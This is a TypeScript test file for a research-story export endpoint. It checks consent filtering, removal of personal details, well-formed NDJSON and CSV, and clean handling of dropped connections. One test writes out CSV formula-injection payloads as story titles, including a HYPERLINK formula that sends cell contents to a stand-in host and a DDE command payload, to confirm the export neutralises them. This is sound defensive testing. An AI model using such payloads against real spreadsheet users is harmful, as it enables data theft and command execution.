// The stories export: consent and status filtering, de-identification, NDJSON/CSV well-formed, stable
// export ids, a client that goes away stops the query and frees the connection, and a connection the
// server ends midway cuts the download off without taking the service down.
import { parse } from 'csv-parse/sync'
import http from 'node:http'
import pg from 'pg'
import t, { type Test } from 'tap'
import { buildTestApp } from '../helpers/app.js'
import { apiKey, bearer, siteWithTopic } from '../helpers/factories.js'
import { insertStories } from '../helpers/research-stories.js'

const secret = { authorName: 'Jolene Marsh', authorEmail: 'jolene.marsh@example.com' }

t.test('only consented approved stories, de-identified, as NDJSON and CSV', async (t) => {
  const { app, db } = await buildTestApp(t)
  const { site, topic } = await siteWithTopic(db)
  const researcher = await apiKey(db, 'researcher', [site.slug])
  const body = 'I am Jolene, write to jolene.marsh@example.com or call +44 20 7946 0958. It helped, "a lot", really;\nsecond line.'
  await insertStories(db, site, topic, 3, { ...secret, body, title: 'Marsh says, it worked', categories: ['abuse'], createdAt: '2024-03-17T22:10:00Z' })
  await insertStories(db, site, topic, 2, { consentResearch: false, ...secret })
  for (const status of ['pending', 'rejected', 'removed', 'withdrawn'] as const) await insertStories(db, site, topic, 1, { status, ...secret })
  const ids = (await db.story.findMany({ select: { id: true } })).map((s) => s.id)
  await db.readerRating.createMany({ data: ids.flatMap((storyId) => [4, 5].map((stars) => ({ storyId, stars, raterHash: `r${stars}`, networkHash: 'n' }))) })

  const res = await app.inject({ url: `/v1/research/stories?site=${site.slug}`, headers: bearer(researcher) })
  t.equal(res.statusCode, 200)
  t.match(res.headers['content-type'], /^application\/x-ndjson/)
  t.match(res.headers['content-disposition'], new RegExp(`^attachment; filename="candor-stories-${site.slug}-\\d{4}-\\d{2}-\\d{2}\\.ndjson"$`))
  t.ok(res.body.endsWith('\n'))
  const rows = res.body.trimEnd().split('\n').map((line) => JSON.parse(line))
  t.equal(rows.length, 3, 'no unconsented, pending, rejected, removed or withdrawn story')
  t.same(Object.keys(rows[0]), ['exportId', 'site', 'topic', 'submittedMonth', 'publishedMonth', 'verdict', 'title', 'body', 'triageLevel', 'triageCategories', 'contentWarnings', 'readerRatingCount', 'readerRatingAverage'])
  t.match(rows[0], { site: site.slug, topic: topic.slug, submittedMonth: '2024-03', publishedMonth: '2024-03', verdict: 'effective', triageLevel: 'high', triageCategories: ['abuse'] })
  t.match(rows[0], { readerRatingCount: 2, readerRatingAverage: 4.5 }, "readers' ratings are in the export")
  t.match(rows[0].exportId, /^[0-9a-f]{24}$/)
  t.equal(new Set(rows.map((r) => r.exportId)).size, 3)
  for (const text of [res.body.toLowerCase()]) {
    for (const leak of ['jolene', 'marsh', 'example.com', '7946', ...ids]) t.notOk(text.includes(leak.toLowerCase()), `no ${leak} in the export`)
  }
  t.match(rows[0].body, /\[name removed\].*\[email removed\].*\[phone removed\]/s)

  const again = await app.inject({ url: `/v1/research/stories?site=${site.slug}&format=csv`, headers: bearer(researcher) })
  t.match(again.headers['content-type'], /^text\/csv/)
  const records = parse(again.body, { columns: true }) as Record<string, string>[]
  t.equal(records.length, 3)
  t.same(records.map((r) => r.exportId).sort(), rows.map((r) => r.exportId).sort(), 'export ids are stable across exports')
  t.equal(records[0]!.body, rows[0].body, 'quotes, commas and newlines survive the CSV round trip')
  t.equal(records[0]!.triageCategories, 'abuse')

  const other = await siteWithTopic(db)
  t.equal((await app.inject({ url: `/v1/research/stories?site=${other.site.slug}`, headers: bearer(researcher) })).statusCode, 403)
})

t.test('a CSV cell a spreadsheet would run opens as text; NDJSON keeps the text as written', async (t) => {
  const { app, db } = await buildTestApp(t)
  const { site, topic } = await siteWithTopic(db)
  const researcher = await apiKey(db, 'researcher', [site.slug])
  const formulas = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1']
  for (const title of formulas) await insertStories(db, site, topic, 1, { title, body: 'It helped.' })
  const csv = await app.inject({ url: `/v1/research/stories?site=${site.slug}&format=csv`, headers: bearer(researcher) })
  const cells = (parse(csv.body, { columns: true }) as Record<string, string>[]).map((r) => r.title).sort()
  t.same(cells, formulas.map((f) => `'${f}`).sort(), 'each title begins with an apostrophe in the CSV')
  const ndjson = await app.inject({ url: `/v1/research/stories?site=${site.slug}`, headers: bearer(researcher) })
  const titles = ndjson.body.trimEnd().split('\n').map((l) => (JSON.parse(l) as { title: string }).title).sort()
  t.same(titles, [...formulas].sort(), 'NDJSON keeps them as written')
})

/** An app whose site holds 15,000 consented, approved stories of ~1 kB: an export that takes a while. */
async function longExport (t: Test) {
  const { app, db, config } = await buildTestApp(t)
  const { site, topic } = await siteWithTopic(db)
  const researcher = await apiKey(db, 'researcher', [site.slug])
  await db.$executeRaw`
    INSERT INTO stories (id, site_id, topic_id, title, body, consent_publish, consent_research, status, triage_level, triage_categories, manage_token_hash, updated_at)
    SELECT gen_random_uuid(), ${site.id}::uuid, ${topic.id}::uuid, 'Title ' || g, repeat('Long story text. ', 60), true, true, 'approved', 'normal', '{}', 'x', now()
    FROM generate_series(1, 15000) g`
  return { app, config, site, researcher }
}

t.test('a client that goes away stops the export query and frees its connection', async (t) => {
  const { app, config, site, researcher } = await longExport(t)
  const address = await app.listen({ port: 0, host: '127.0.0.1' })
  // A real socket that the client closes midway (fetch's abort can leave the socket to linger).
  const received = await new Promise<number>((resolve, reject) => {
    const req = http.get(`${address}/v1/research/stories?site=${site.slug}`, { headers: bearer(researcher) }, (res) => {
      t.equal(res.statusCode, 200)
      let bytes = 0
      res.on('data', (chunk: Buffer) => {
        bytes += chunk.length
        if (bytes >= 200_000) { req.destroy(); resolve(bytes) }
      })
      res.on('end', () => resolve(bytes))
    })
    req.on('error', (e) => { if (!req.destroyed) reject(e) })
  })
  t.ok(received >= 200_000, 'the export was streaming')

  const probe = new pg.Client({ connectionString: config.databaseUrl })
  await probe.connect()
  t.teardown(async () => { await probe.end() })
  const exporting = async () => (await probe.query(`SELECT count(*)::int AS n FROM pg_stat_activity WHERE application_name = 'candor-research-export' AND state <> 'idle'`)).rows[0].n as number
  let busy = await exporting()
  for (let i = 0; i < 40 && busy > 0; i++) {
    await new Promise((resolve) => setTimeout(resolve, 50))
    busy = await exporting()
  }
  t.equal(busy, 0, 'no export query is running a moment after the client left')
  t.ok(received < 15000 * 900, 'the export did not run to the end')
})

t.test('an export whose connection the server ends midway stops; the service stays up', { timeout: 60_000 }, async (t) => {
  const { app, config, site, researcher } = await longExport(t)
  const address = await app.listen({ port: 0, host: '127.0.0.1' })
  const killer = new pg.Client({ connectionString: config.databaseUrl })
  await killer.connect()
  t.teardown(async () => { await killer.end() })
  // Ends this database's export connections only (other test files share the server).
  const endExports = async () => await killer.query(`SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = 'candor-research-export' AND datname = current_database()`)

  const outcome = await new Promise<{ bytes: number, complete: boolean }>((resolve, reject) => {
    let bytes = 0
    let ended = false
    const req = http.get(`${address}/v1/research/stories?site=${site.slug}`, { headers: bearer(researcher) }, (res) => {
      res.on('data', (chunk: Buffer) => {
        bytes += chunk.length
        if (!ended && bytes >= 100_000) { ended = true; endExports().catch(reject) }
      })
      res.on('end', () => resolve({ bytes, complete: res.complete }))
      res.on('error', () => resolve({ bytes, complete: false }))
      res.on('aborted', () => resolve({ bytes, complete: false }))
    })
    req.on('error', () => resolve({ bytes, complete: false }))
  })
  t.ok(outcome.bytes < 15000 * 900, 'the export stopped before the end')
  t.notOk(outcome.complete, 'the client can tell the export is incomplete (the response was cut, not ended cleanly)')

  const again = await app.inject({ url: `/v1/research/stories?site=${site.slug}&format=csv`, headers: bearer(researcher) })
  t.equal(again.statusCode, 200, 'the next export works')
  t.equal(again.body.trimEnd().split('\n').length, 15001, 'and holds every row')
})
